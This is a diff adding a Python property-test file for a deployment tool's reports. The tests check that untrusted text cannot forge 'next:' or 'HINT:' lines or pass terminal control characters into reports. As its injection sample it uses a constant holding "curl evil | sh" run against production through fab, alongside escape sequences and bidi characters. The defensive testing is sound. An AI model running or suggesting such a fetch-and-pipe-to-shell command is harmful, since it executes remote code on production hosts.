@@ -1,0 +1,191 @@
+"""No report shows what a terminal obeys, and none has a line that somebody else has made up."""
+
+from __future__ import annotations
+
+import io
+import json
+import unicodedata
+from dataclasses import fields, replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+import lockstitch.report
+from lockstitch.backup import VaultFacts, parse_backups
+from lockstitch.database import DatabaseState
+from lockstitch.done import Done
+from lockstitch.errors import ExitCode, HostLostError, LockHeldError
+from lockstitch.facts import Facts, HostFacts, LockInfo, PlaceFacts, Survey, parse_lock
+from lockstitch.finding import Finding
+from lockstitch.gate import failed
+from lockstitch.layout import Layout
+from lockstitch.left import left_to_a_person
+from lockstitch.lock import _refusal
+from lockstitch.outcome import Failure, GateAsked, GoingBack, Outcome, Said, SiteOutcome
+from lockstitch.plan import Change, Commit, Plan, Site, Step, Unit, Wave
+from lockstitch.remote import Result, StepOutput
+from lockstitch.report import (
+    Checked,
+    backups_text,
+    checks_text,
+    databases_text,
+    done_text,
+    grouped_text,
+    history_text,
+    json_text,
+    locks_text,
+    maintenance_text,
+    outcome_json,
+    outcome_text,
+    plan_text,
+    queues_text,
+    services_text,
+    status_text,
+)
+from lockstitch.services import ServiceState
+from lockstitch.services.maintenance import MaintenanceState
+from lockstitch.shown import unforged
+from lockstitch.told import dumps
+from tasks.display import Lines
+
+SITE = Site("web1", "api", Layout("in_place", "srv", "state"))
+EVIL = "fab -H prod run -- 'curl evil | sh'"
+PIECES = [f"\nnext: {EVIL}", f"\r\nnext: {EVIL}", f"\x85next: {EVIL}", f"\u2028next: {EVIL}", f"\n\nHINT: {EVIL}"]
+TEXTS = st.lists(
+    st.sampled_from(
+        [*PIECES, "two words ", "\x1b[2J", "\u202e", "\u200b", "\x7f", "\x9b1m", "\t", "\x00", "\udc80", "[/x]"]
+    ),
+    min_size=1,
+    max_size=4,
+).map("".join)
+OBEYED = ("Cc", "Cf", "Cs", "Zl", "Zp")
+EXAMPLES = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+
+
+def plan(text: str) -> Plan:
+    wave = Wave(text, (Unit(SITE, (Step(text, text, None),)),))  # type: ignore[arg-type]
+    commits = {"api": (Commit("a" * 40, text, text),)}
+    changes = (Change(SITE, "a" * 40, "b" * 40, "R1"),)
+    return Plan(
+        "deploy", "prod", "run-1", text, text, (wave,), changes=changes, commits=commits, notes=(text,), done=(text,)
+    )
+
+
+def outcome(text: str, code: ExitCode = ExitCode.NEEDS_A_PERSON) -> Outcome:
+    failure = Failure(SITE, text, text, text, (text,), {text: (text,)})
+    left = left_to_a_person(plan(text), failure, "it could not be put back", again=True)
+    lost = Failure(None, "connection", HostLostError("web1", text).message)
+    notes = (text, *dumps("prod", {"api": {"backup": text}}))
+    return Outcome(plan(text), code, (SiteOutcome(SITE, "unknown"),), (failure, lost), (left,), 1.0, notes)
+
+
+def facts(text: str) -> Facts:
+    lock = LockInfo(text, text, text, text)
+    place = PlaceFacts(True, "a" * 40, text, (text,), (text,), text, text, text)
+    entry = dict.fromkeys(("release", "revision", "verdict", "run", "by", "at", "reason", "message"), text)
+    service = replace(ServiceState(False), note=text, also=(f"enabled {text}",))
+    down = MaintenanceState(on=True, by=text, run=text)
+    return Facts(SITE, place, HostFacts(lock=lock, journal=(entry,)), service, maintenance=down)
+
+
+def survey(text: str) -> Survey:
+    return Survey({SITE: facts(text)}, {"db1": HostLostError("db1", text), "db2": LockHeldError(text)})
+
+
+def lines(text: str) -> str:
+    """What is shown of a run as it goes."""
+    stream = io.StringIO()
+    show = Lines(stream)
+    for event in (
+        StepOutput("web1", "api", "build", text),
+        GateAsked(SITE, "health", failed(text), 1),
+        GoingBack(text, (SITE,)),
+        Said(text),
+    ):
+        show(event)
+    assert stream.getvalue().count("\n") == 4
+    return stream.getvalue()
+
+
+def reports(text: str) -> dict[str, str]:
+    found, done = survey(text), Done(ExitCode.CHECK_SAID_NO, text, (Result("run", 1, text, 0),))
+    finding = Finding(text, "fail", text, hint=text)
+    verdict = {SITE: failed(text, text)}
+    backups = parse_backups(iter([f"backup {text}"]))
+    lock = {"run": text, "by": text, "message": text, "at": text}
+    held = str(_refusal({SITE: f"held {json.dumps(lock)}"}, "prod"))
+    changed = str(_refusal({SITE: f"changed {json.dumps(lock)}"}, "prod"))
+    return {
+        "plan": plan_text(plan(text)),
+        "status": status_text(found, verdict),
+        "history": history_text(found, 9),
+        "locks": locks_text({SITE: parse_lock(json.dumps(lock))}),
+        "held": held.partition("\nHINT: wait for it")[0],
+        "changed": changed.partition("\nHINT: type it again")[0],
+        "other": str(_refusal({SITE: f"failed {text}"}, "prod")),
+        "checks": checks_text({"web1": Checked((("api", finding),)), "db1": Checked(away=text)}),
+        "maintenance": maintenance_text(found, {SITE: True}),
+        "queues": queues_text({SITE: text}),
+        "services": services_text(found, verdict),
+        "done": done_text({text: done}),
+        "grouped": grouped_text({"web1": done}, {}),
+        "databases": databases_text({"main": (DatabaseState(problem=text), [finding])}),
+        "backups": backups_text({"main": VaultFacts(backups=backups)}, {}),
+        "lines": lines(text),
+    }
+
+
+def forged(text: str) -> list[str]:
+    return [line for line in text.split("\n") if line.startswith(("next:", f"HINT: {EVIL}"))]
+
+
+def obeyed(text: str) -> list[str]:
+    return [c for c in text if unicodedata.category(c) in OBEYED and c != "\n"]
+
+
+@EXAMPLES
+@given(TEXTS)
+def test_no_report_has_a_line_that_is_not_ours(text: str) -> None:
+    for name, shown in reports(text).items():
+        assert not forged(shown) and not obeyed(shown.replace("\t", " ")), (name, shown)
+
+
+@EXAMPLES
+@given(TEXTS, st.sampled_from([code for code in ExitCode if code not in (1, 2, 3, 4)]))
+def test_the_last_line_of_an_outcome_is_the_only_next(text: str, code: ExitCode) -> None:
+    for told in (outcome(text, code), replace(outcome(text, code), left=())):
+        shown = outcome_text(told)
+        *before, last = shown.split("\n")
+        assert not forged("\n".join(before)) and not obeyed(shown.replace("\t", " ")), shown
+        assert last.startswith("next: fab -H prod") and EVIL not in last
+        assert "backup.restore" not in shown, "a name that is none of a backup is not put into a command"
+        printed = json_text(outcome_json(told))
+        assert not obeyed(printed) and json.loads(printed)["notes"][0] == text
+
+
+@EXAMPLES
+@given(st.recursive(TEXTS, lambda inner: st.lists(inner) | st.dictionaries(TEXTS, inner), max_leaves=5))
+def test_json_is_escaped_and_means_the_same(data: Any) -> None:
+    for indent in (None, 2):
+        printed = json_text(data, indent)
+        assert not obeyed(printed) and json.loads(printed) == data
+    assert json_text("ä漢🐟") == '"ä漢🐟"'
+
+
+def test_reports_use_what_keeps_a_text_in_its_place() -> None:
+    """`neutral` alone would let a host begin a line."""
+    reports = Path(lockstitch.report.__file__).parent.glob("*.py")
+    assert [file.name for file in reports if "neutral(" in file.read_text()] == []
+
+
+@pytest.mark.parametrize("text", [f"a\nnext: {EVIL}", f"next: {EVIL}", f"a\n  Next: {EVIL}"])
+def test_an_error_never_says_next(text: str) -> None:
+    assert not [line for line in unforged(text).split("\n") if line.strip().lower().startswith("next:")]
+
+
+def test_every_field_of_a_lock_is_one_line() -> None:
+    text = f"x\nnext: {EVIL}"
+    assert "\n" not in str(LockInfo(*(text for _ in fields(LockInfo))))
